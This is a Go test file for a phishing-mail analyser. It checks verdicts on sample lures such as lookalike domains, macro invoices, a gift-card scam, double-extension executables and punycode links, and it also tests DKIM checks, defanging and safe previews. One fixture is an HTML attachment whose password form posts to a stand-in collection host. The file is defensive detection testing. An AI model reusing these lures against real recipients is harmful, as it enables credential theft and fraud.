package phishing

import (
	"context"
	"errors"
	"strings"
	"testing"
)

// TestVerdicts runs the corpus the issue names: each mail, forwarded as an
// attachment, gets its expected verdict and a reason a reporter would
// understand.
func TestVerdicts(t *testing.T) {
	t.Parallel()
	newsletter := mailOf([]string{"From: Acme Weekly <news@acme-news.org>", "To: me@example.com", "Subject: This week at Acme",
		"Date: Mon, 07 Dec 2026 07:00:00 +0000", "Message-ID: <nl-1@acme-news.org>", "Content-Type: text/html; charset=utf-8"},
		`<p>Hello reader, here is our weekly digest.</p><p><a href="https://acme-news.org/articles/42">Read the article</a></p>`+
			`<p><a href="https://acme-news.org/unsubscribe?u=1">Unsubscribe</a></p><img src="https://acme-news.org/logo.png" alt="Acme">`)
	newsletter, dns := signed(t, "acme-news.org", newsletter)
	newsletter = append([]byte("Authentication-Results: mx.example.com; spf=pass smtp.mailfrom=acme-news.org; dkim=pass header.d=acme-news.org; dmarc=pass header.from=acme-news.org\r\n"), newsletter...)

	cases := []struct {
		name     string
		suspect  []byte
		cfg      func(*Config)
		verdict  string
		reason   string // a substring of one of the reasons
		minScore int
		attFlag  string // a flag one attachment must carry
	}{
		{name: "lookalike domain", verdict: VerdictMalicious, reason: "imitates our own example.com", minScore: 60,
			suspect: mailOf([]string{"From: IT Service Desk <it@examp1e.com>", "To: me@example.com", "Subject: Your password expires today",
				"Date: Mon, 07 Dec 2026 06:00:00 +0000", "Content-Type: text/html; charset=utf-8"},
				`<p>Your password expires today. <a href="https://login.examp1e.com/reset">https://login.example.com/reset</a> to keep it.</p>`)},
		{name: "macro document", verdict: VerdictMalicious, reason: "contains macros", attFlag: "macro", minScore: 50,
			suspect: multipart([]string{"From: Accounts <billing@supplier-invoices.net>", "To: me@example.com", "Subject: Invoice 4471",
				"Date: Mon, 07 Dec 2026 06:00:00 +0000"}, "Please find the invoice attached. Enable editing to view it.",
				[3]string{"Invoice_4471.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", ooxml(t, true)})},
		{name: "HTML attachment with a password form", verdict: VerdictMalicious, reason: "asks for a password", attFlag: "html-password", minScore: 60,
			suspect: multipart([]string{"From: Microsoft 365 <no-reply@m365-alerts.info>", "To: me@example.com", "Subject: Voicemail received",
				"Date: Mon, 07 Dec 2026 06:00:00 +0000"}, "You have a new voicemail, open the attachment.",
				[3]string{"voicemail.htm", "text/html", `<html><body><form action="https://collect.evil-host.biz/p.php" method="post">` +
					`<input type="email" name="u"><input type="password" name="p"><button>Sign in</button></form></body></html>`})},
		{name: "display name of a colleague", verdict: VerdictMalicious, reason: "Dana Whitfield, a colleague", minScore: 60,
			suspect: mailOf([]string{"From: Dana Whitfield <dana.whitfield.ceo@gmail.com>", "To: me@example.com", "Subject: Quick favour",
				"Date: Mon, 07 Dec 2026 06:00:00 +0000"}, "Are you at your desk? I need you to buy gift cards for a client, it is urgent. Reply with the codes.")},
		{name: "safe newsletter", verdict: VerdictSafe, suspect: newsletter, cfg: func(c *Config) { c.Resolver = dns }},
		{name: "ordinary internal mail", verdict: VerdictSafe,
			suspect: multipart([]string{"Authentication-Results: mx.example.com; spf=pass smtp.mailfrom=example.com; dkim=pass header.d=example.com; dmarc=pass header.from=example.com",
				"From: Ravi Menon <ravi@example.com>", "To: me@example.com", "Subject: Minutes of Tuesday's meeting",
				"Date: Mon, 07 Dec 2026 06:00:00 +0000"}, "Hi all, the minutes are attached and on https://wiki.example.com/minutes. Please review by Friday.",
				[3]string{"minutes.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", ooxml(t, false)},
				[3]string{"photos.zip", "application/zip", zipOf(t, false, "a.txt")})},
		{name: "our own exercise", verdict: VerdictSimulation, reason: "our own phishing exercises",
			suspect: mailOf([]string{"From: IT <it@examp1e.com>", "X-Phishing-Simulation: campaign-7", "Subject: Reset", "Date: Mon, 07 Dec 2026 06:00:00 +0000"},
				"Reset your password at https://examp1e.com/reset")},
		{name: "password-protected archive", verdict: VerdictSuspicious, reason: "password-protected", attFlag: "encrypted", minScore: 25,
			suspect: multipart([]string{"From: Parcel Service <track@parcel-notice.co>", "Subject: Your delivery", "Date: Mon, 07 Dec 2026 06:00:00 +0000"},
				"The delivery note is attached, password 1234.", [3]string{"note.zip", "application/zip", zipOf(t, true, "note.pdf")})},
		{name: "archive with a program, double extension", verdict: VerdictMalicious, reason: "holds a program", attFlag: "archive-executable", minScore: 60,
			suspect: multipart([]string{"From: HR <hr@payroll-update.xyz>", "Subject: Salary review", "Date: Mon, 07 Dec 2026 06:00:00 +0000"},
				"See the attached review.", [3]string{"review.zip", "application/zip", zipOf(t, false, "review.pdf.exe")},
				[3]string{"scan.pdf.exe", "application/pdf", "MZ\x90\x00 this program cannot be run in DOS mode"})},
		{name: "old Word document with macros", verdict: VerdictMalicious, reason: "contains macros", attFlag: "macro", minScore: 50,
			suspect: multipart([]string{"From: Orders <orders@buyer-co.net>", "Reply-To: orders.buyer@gmail.com", "Subject: Purchase order", "Date: Mon, 07 Dec 2026 06:00:00 +0000"},
				"Order attached.", [3]string{"PO.doc", "application/msword", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("\x00", 64) + string(utf16le("_VBA_PROJECT")) + strings.Repeat("\x00", 64)})},
		{name: "links by IP and punycode", verdict: VerdictSuspicious, reason: "bare internet address", minScore: 25,
			suspect: mailOf([]string{"From: Bank <service@bank-notice.com>", "Subject: Statement", "Date: Mon, 07 Dec 2026 06:00:00 +0000"},
				"Your statement: http://203.0.113.7/statement and http://xn--pypal-4ve.com/ home")},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			cfg := testCfg
			if tc.cfg != nil {
				tc.cfg(&cfg)
			}
			s, err := FindSuspect(forwardAsAttachment("Me <me@example.com>", tc.suspect))
			if err != nil {
				t.Fatalf("find suspect: %v", err)
			}
			if s.How != FoundAttachment {
				t.Fatalf("found by %s, want attachment", s.How)
			}
			a, err := Analyse(context.Background(), cfg, Input{Suspect: s})
			if err != nil {
				t.Fatal(err)
			}
			if a.Verdict != tc.verdict || a.Score < tc.minScore {
				t.Fatalf("verdict %s score %d, want %s (score >= %d); findings %+v", a.Verdict, a.Score, tc.verdict, tc.minScore, a.Findings)
			}
			if tc.reason != "" && !strings.Contains(strings.Join(a.Reasons, "\n"), tc.reason) {
				t.Errorf("reasons %q lack %q", a.Reasons, tc.reason)
			}
			if tc.attFlag != "" {
				found := false
				for _, at := range a.Attachments {
					found = found || contains(at.Flags, tc.attFlag)
					if len(at.SHA256) != 64 {
						t.Errorf("attachment %s without SHA-256", at.Filename)
					}
				}
				if !found {
					t.Errorf("no attachment flagged %s: %+v", tc.attFlag, a.Attachments)
				}
			}
			if strings.Contains(a.From, "me@example.com") {
				t.Errorf("analysed the reporter's mail (from %s)", a.From)
			}
		})
	}
}

// TestFreshDKIM: a newsletter whose signature still verifies says so, and
// one altered after signing does not.
func TestFreshDKIM(t *testing.T) {
	t.Parallel()
	raw, dns := signed(t, "acme-news.org", mailOf([]string{"From: news@acme-news.org", "Subject: Digest", "Date: Mon, 07 Dec 2026 06:00:00 +0000"}, "Hello\n"))
	cfg := testCfg
	cfg.Resolver = dns
	a, err := Analyse(context.Background(), cfg, Input{Suspect: &Suspect{Raw: raw, How: FoundUpload}})
	if err != nil {
		t.Fatal(err)
	}
	if a.Auth.FreshDKIM != "pass (acme-news.org)" {
		t.Errorf("fresh DKIM %q, want pass", a.Auth.FreshDKIM)
	}
	tampered := []byte(strings.Replace(string(raw), "Hello", "Hellp", 1))
	a, _ = Analyse(context.Background(), cfg, Input{Suspect: &Suspect{Raw: tampered, How: FoundUpload}})
	if a.Auth.FreshDKIM != "fail" {
		t.Errorf("fresh DKIM of an altered mail %q, want fail", a.Auth.FreshDKIM)
	}
}

// TestForgedResultsIgnored: Authentication-Results of a server that is not
// ours are not believed, and only the topmost of ours counts.
func TestForgedResultsIgnored(t *testing.T) {
	t.Parallel()
	raw := mailOf([]string{
		"Authentication-Results: mx.example.com; spf=fail smtp.mailfrom=examp1e.com; dkim=none; dmarc=fail header.from=examp1e.com",
		"Authentication-Results: mx.example.com; spf=pass; dkim=pass; dmarc=pass",
		"Authentication-Results: attacker.example; dmarc=pass",
		"From: a@examp1e.com", "Subject: x"}, "hi")
	a, _ := Analyse(context.Background(), testCfg, Input{Suspect: &Suspect{Raw: raw, How: FoundUpload}})
	if a.Auth.Source != "mx.example.com" || a.Auth.DMARC != "fail" {
		t.Fatalf("auth %+v, want the topmost result of mx.example.com (dmarc=fail)", a.Auth)
	}
	cfg := testCfg
	cfg.AuthServIDs = []string{"other.example"}
	a, _ = Analyse(context.Background(), cfg, Input{Suspect: &Suspect{Raw: raw, How: FoundUpload}})
	if a.Auth.Source != "" || a.Auth.DMARC != "none" {
		t.Fatalf("auth %+v: results of servers not ours were believed", a.Auth)
	}
}

// TestFindSuspectInline: a plain forward is found below its marker, with the
// original sender, and the reporter's text is not part of it.
func TestFindSuspectInline(t *testing.T) {
	t.Parallel()
	s, err := FindSuspect(forwardInline("Me <me@example.com>", "IT Support <support@examp1e.com>", "Mailbox full",
		"Your mailbox is full. Verify your account at https://examp1e.com/verify within 24 hours."))
	if err != nil {
		t.Fatal(err)
	}
	if s.How != FoundInline || !s.Partial {
		t.Fatalf("how %s partial %v", s.How, s.Partial)
	}
	a, err := Analyse(context.Background(), testCfg, Input{Suspect: s})
	if err != nil {
		t.Fatal(err)
	}
	if a.From != "support@examp1e.com" || a.Subject != "Mailbox full" || a.Date == nil {
		t.Fatalf("from %q subject %q date %v", a.From, a.Subject, a.Date)
	}
	if a.Verdict != VerdictMalicious {
		t.Errorf("verdict %s, want malicious: %+v", a.Verdict, a.Findings)
	}
	if _, err := FindSuspect(mailOf([]string{"From: me@example.com", "Subject: hello"}, "Just a question, nothing forwarded.")); !errors.Is(err, ErrNoSuspect) {
		t.Errorf("a mail without a forward: %v, want ErrNoSuspect", err)
	}
}

// TestPreviewIsInert: the preview keeps text but no link, image, form or script.
func TestPreviewIsInert(t *testing.T) {
	t.Parallel()
	raw := mailOf([]string{"From: x@evil.example", "Content-Type: text/html"},
		`<p onclick="x()">Hi <a href="https://evil.example/login">sign in</a><img src="https://evil.example/track.gif"></p>`+
			`<form action="https://evil.example/p"><input type="password"></form><script>alert(1)</script><style>p{}</style>`)
	pv := MakePreview(raw)
	for _, bad := range []string{"<a", "href", "<img", "src=", "<form", "<input", "<script", "onclick", "https://evil.example"} {
		if strings.Contains(pv.HTML, bad) {
			t.Errorf("preview holds %q: %s", bad, pv.HTML)
		}
	}
	if !strings.Contains(pv.HTML, "sign in") || !strings.Contains(pv.HTML, "hxxps://evil[.]example/login") {
		t.Errorf("preview lost the link's text or its defanged target: %s", pv.HTML)
	}
}

func TestDefang(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{"https://evil.example/a.b": "hxxps://evil[.]example/a.b", "evil.example": "evil[.]example",
		"http://u@evil.example": "hxxp://u[@]evil[.]example"} {
		if got := Defang(in); got != want {
			t.Errorf("Defang(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestLookalike(t *testing.T) {
	t.Parallel()
	ours := []string{"example.com"}
	for host, want := range map[string]bool{"examp1e.com": true, "exarnple.com": true, "example-login.com": true, "xn--exmple-cua.com": true,
		"еxample.com": true, "example.net": true, "sub.example.com": false, "sample.org": false, "wikipedia.org": false, "examples-of-art.com": false, "examp1e-helpdesk.com": true, "my-example-blog.org": true, "exampie-login.net": true} {
		if got := lookalike(host, ours) != ""; got != want {
			t.Errorf("lookalike(%q) = %v, want %v", host, got, want)
		}
	}
}
